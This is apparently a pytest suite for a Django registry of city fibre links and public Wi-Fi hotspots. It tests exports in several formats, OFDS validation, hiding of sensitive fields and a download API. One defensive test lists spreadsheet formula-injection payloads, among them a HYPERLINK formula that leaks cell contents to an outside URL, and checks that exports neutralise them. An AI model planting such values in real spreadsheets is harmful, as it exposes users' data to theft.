"""Export: every format out, round trips into an empty database, OpenStreetMap tags, OFDS
validated against its published schema, public exports without internal or sensitive
fields, and the download API."""

import csv
import datetime
import json
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.db import connection

from inventory.io.exporters import export_layer, ofds_package
from inventory.io.importer import import_file
from inventory.io.schema import LAYERS
from inventory.models import Facility, FiberLink, FiberNode, Hotspot
from tests.factories import make_facility, make_hotspot, make_link, make_node, point, to_storage

pytestmark = pytest.mark.django_db

ROUND_TRIP_FORMATS = {"geojson": ".geojson", "csv": ".csv", "xlsx": ".xlsx", "gpkg": ".gpkg",
                      "shp": ".zip", "kml": ".kml"}


@pytest.fixture
def registry(two_kelurahan):
    """A node pair, a link, a facility and two hotspots with every kind of field filled."""
    a = make_node(100, 100, name="POP Barat", external_id="N-A", node_type="pop",
                  owner="Pemkot", operator="Diskominfo")
    b = make_node(1400, 100, name="ODP Timur", external_id="N-B", is_sensitive=True)
    make_link(a, b, name="Span A-B", external_id="L-1", fibre_count=24,
              capacity_gbps=Decimal("10.00"), deployment="aerial", is_sensitive=True,
              installed_on=datetime.date(2019, 5, 1), notes="rahasia", owner="Pemkot")
    kantor = make_facility(300, 300, name="Kantor Barat", external_id="F-1", fiber_node=a,
                           address="Jl. Merdeka 1", connectivity="fiber")
    area = to_storage(point(500, 500).buffer(20, quad_segs=4))
    make_hotspot(500, 500, name="Taman Barat", external_id="H-1", ssid="KOTA-FREE",
                 bandwidth_mbps=Decimal("20.5"), opening_hours="24/7", host_facility=kantor,
                 coverage_area=area, notes="password di pos", last_verified_on=datetime.date(
                     2024, 1, 2), placement="indoor", backhaul="fiber")
    make_hotspot(1500, 500, name="Pasar Timur", external_id="H-2", status="down",
                 is_free=False, decommissioned_on=datetime.date(2024, 6, 1))


def snapshot(model):
    """Every stored field except ids and timestamps, references by external_id."""
    rows = []
    for obj in model.objects.order_by("external_id"):
        row = {}
        for field in model._meta.concrete_fields:
            if field.name in ("id", "created", "last_updated"):
                continue
            value = getattr(obj, field.name)
            if hasattr(value, "external_id"):
                value = value.external_id
            elif hasattr(value, "code"):
                value = value.code
            elif hasattr(value, "coords"):
                value = json.loads(value.json)
                value = json.dumps(_round(value["coordinates"]))
            elif isinstance(value, float):
                value = round(value, 3)
            row[field.name] = value
        rows.append(row)
    return rows


def _round(coords):
    if isinstance(coords, list | tuple):
        return [_round(c) for c in coords]
    return round(coords, 6)


def clear():
    with connection.cursor() as cursor:
        for model in (Hotspot, Facility, FiberLink, FiberNode):
            cursor.execute(f"DELETE FROM {model._meta.db_table}")


@pytest.mark.parametrize("fmt", list(ROUND_TRIP_FORMATS))
def test_round_trip_into_an_empty_database(registry, tmp_path, fmt):
    order = ["fiber-nodes", "facilities", "fiber-links", "hotspots"]
    before = {layer: snapshot(LAYERS[layer].model) for layer in order}
    files = {}
    for layer in order:
        files[layer] = tmp_path / f"{layer}{ROUND_TRIP_FORMATS[fmt]}"
        assert export_layer(layer, fmt, files[layer]) == len(before[layer])
    clear()
    for layer in order:
        report = import_file(layer, files[layer])
        assert report.ok, [str(i) for i in report.errors]
        assert report.created == len(before[layer])
    after = {layer: snapshot(LAYERS[layer].model) for layer in order}
    lost = {"coverage_area"} if fmt == "shp" else set()  # too long for a dBASE field
    for layer in order:
        assert after[layer] == [
            {k: (None if k in lost else v) for k, v in row.items()} for row in before[layer]
        ], layer
    # Importing the same export again in update mode changes nothing.
    for layer in order:
        report = import_file(layer, files[layer], update=True)
        assert (report.created, report.updated, report.unchanged) == (
            0, 0, len(before[layer])), layer


def test_csv_export_columns(registry, tmp_path):
    export_layer("hotspots", "csv", tmp_path / "h.csv")
    with open(tmp_path / "h.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0])[-3:] == ["area_code", "latitude", "longitude"]
    first = rows[1] if rows[0]["external_id"] == "H-2" else rows[0]
    assert (first["name"], first["bandwidth_mbps"], first["is_free"], first["host_facility"],
            first["area_code"], first["last_verified_on"]) == (
        "Taman Barat", "20.5", "true", "F-1", "35.76.01.1001", "2024-01-02")


def test_geojson_is_rfc7946(registry, tmp_path):
    export_layer("hotspots", "geojson", tmp_path / "h.geojson", as_of=datetime.date(2024, 7, 1))
    data = json.loads((tmp_path / "h.geojson").read_text())
    assert data["type"] == "FeatureCollection" and "crs" not in data
    assert [f["properties"]["external_id"] for f in data["features"]] == ["H-1"]
    lon, lat = data["features"][0]["geometry"]["coordinates"]
    assert 112 < lon < 113 and -8 < lat < -7  # longitude first
    assert data["features"][0]["properties"]["bandwidth_mbps"] == 20.5


def test_export_by_area(registry, tmp_path):
    assert export_layer("hotspots", "geojson", tmp_path / "a.geojson", area="35.76.01.1002") == 1
    assert export_layer("hotspots", "geojson", tmp_path / "b.geojson", area="35.76.01") == 2
    assert export_layer("fiber-links", "geojson", tmp_path / "c.geojson",
                        area="35.76.01.1002") == 1


def test_openstreetmap_tags(registry, tmp_path):
    export_layer("hotspots", "osm", tmp_path / "osm.geojson")
    data = json.loads((tmp_path / "osm.geojson").read_text())
    assert [f["properties"] for f in data["features"]] == [{
        "name": "Taman Barat", "internet_access": "wlan", "internet_access:fee": "no",
        "internet_access:ssid": "KOTA-FREE", "operator": "Diskominfo",
        "opening_hours": "24/7", "ref": "H-1", "check_date": "2024-01-02",
    }]  # the hotspot that is down is not exported


def _ofds_validator():
    libcoveofds = pytest.importorskip("libcoveofds.schema")
    from jsonschema import Draft202012Validator

    schema = libcoveofds.OFDSSchema().get_package_schema()
    return Draft202012Validator(schema)


def test_ofds_package_is_valid_against_the_published_schema(registry):
    validator = _ofds_validator()
    package = ofds_package(FiberNode.objects.order_by("pk"), FiberLink.objects.all())
    assert [e.message for e in validator.iter_errors(package)] == []
    span = package["networks"][0]["spans"][0]
    assert (span["start"], span["end"], span["fibreCount"], span["capacity"],
            span["deployment"], span["fibreLength"]) == ("N-A", "N-B", 24, 10.0,
                                                         ["aboveGround"], 1.3)
    public = ofds_package(FiberNode.objects.all(), FiberLink.objects.all(), public=True)
    assert "fibreCount" not in public["networks"][0]["spans"][0]


def test_ofds_geojson_converts_to_a_valid_package(registry, tmp_path):
    validator = _ofds_validator()
    from libcoveofds.geojson import GeoJSONAssumeFeatureType, GeoJSONToJSONConverter

    export_layer("fiber-nodes", "ofds", tmp_path / "nodes.geojson")
    export_layer("fiber-links", "ofds", tmp_path / "spans.geojson")
    converter = GeoJSONToJSONConverter()
    converter.process_data(json.loads((tmp_path / "nodes.geojson").read_text()),
                           GeoJSONAssumeFeatureType.NODE)
    converter.process_data(json.loads((tmp_path / "spans.geojson").read_text()),
                           GeoJSONAssumeFeatureType.SPAN)
    package = converter.get_json()
    assert [e.message for e in validator.iter_errors(package)] == []
    network = package["networks"][0]
    assert [n["id"] for n in network["nodes"]] == ["N-A", "N-B"]
    assert network["nodes"][0]["type"] == ["pop"]
    assert [s["id"] for s in network["spans"]] == ["L-1"]


def test_public_export_hides_notes_and_sensitive_details(registry, tmp_path):
    export_layer("fiber-links", "geojson", tmp_path / "l.geojson", public=True)
    props = json.loads((tmp_path / "l.geojson").read_text())["features"][0]["properties"]
    assert "notes" not in props
    assert (props["fibre_count"], props["capacity_gbps"], props["name"]) == (
        None, None, "Span A-B")
    export_layer("fiber-links", "geojson", tmp_path / "all.geojson")
    props = json.loads((tmp_path / "all.geojson").read_text())["features"][0]["properties"]
    assert (props["fibre_count"], props["capacity_gbps"], props["notes"]) == (24, 10.0,
                                                                              "rahasia")


def test_export_command(registry, tmp_path, capsys):
    out = tmp_path / "h.kml"
    call_command("export_assets", "hotspots", "--format", "kml", "-o", str(out),
                 "--as-of", "2024-07-01")
    assert capsys.readouterr().out.strip() == f"Exported 1 hotspots as kml to {out}."
    assert "<name>Taman Barat</name>" in out.read_text()


def test_download_api(registry, client):
    from django.contrib.auth.models import User

    response = client.get("/api/export/fiber-links.geojson")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="fiber-links.geojson"'
    props = json.loads(b"".join(response.streaming_content))["features"][0]["properties"]
    assert "notes" not in props and props["fibre_count"] is None
    assert client.get("/api/export/hotspots.ofds").status_code == 404
    assert client.get("/api/export/hotspots.csv?as_of=yesterday").status_code == 400
    assert client.get("/api/export/hotspots.csv?area=99").status_code == 400
    user = User.objects.create_superuser("root", password="x")
    client.force_login(user)
    response = client.get("/api/export/fiber-links.geojson")
    props = json.loads(b"".join(response.streaming_content))["features"][0]["properties"]
    assert (props["notes"], props["fibre_count"]) == ("rahasia", 24)
    response = client.get("/api/export/hotspots.xlsx?area=35.76.01.1001")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def test_public_downloads_neutralise_spreadsheet_formulas(registry, client):
    """#14 item 9: text starting with = + - @ tab or CR is written as text, numbers stay."""
    import io

    import openpyxl

    hostile = ['=HYPERLINK("http://x/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"]
    for number, name in enumerate(hostile):
        make_hotspot(520 + number, 520, name=name, external_id=f"X-{number}")
    response = client.get("/api/export/hotspots.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, [cell.value for cell in row], strict=True))
            for row in sheet.iter_rows(min_row=2)]
    by_id = {row["external_id"]: row for row in rows}
    # XML reads a stored CR back as LF; the apostrophe still leads.
    assert [by_id[f"X-{n}"]["name"] for n in range(6)] == (
        ["'" + name for name in hostile[:5]] + ["'\nx"])
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert by_id["H-1"]["name"] == "Taman Barat"
    assert isinstance(by_id["H-1"]["latitude"], float) and by_id["H-1"]["latitude"] < 0

    response = client.get("/api/export/hotspots.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert [rows[f"X-{n}"]["name"] for n in range(6)] == ["'" + name for name in hostile]
    assert rows["H-1"]["latitude"].startswith("-7.")
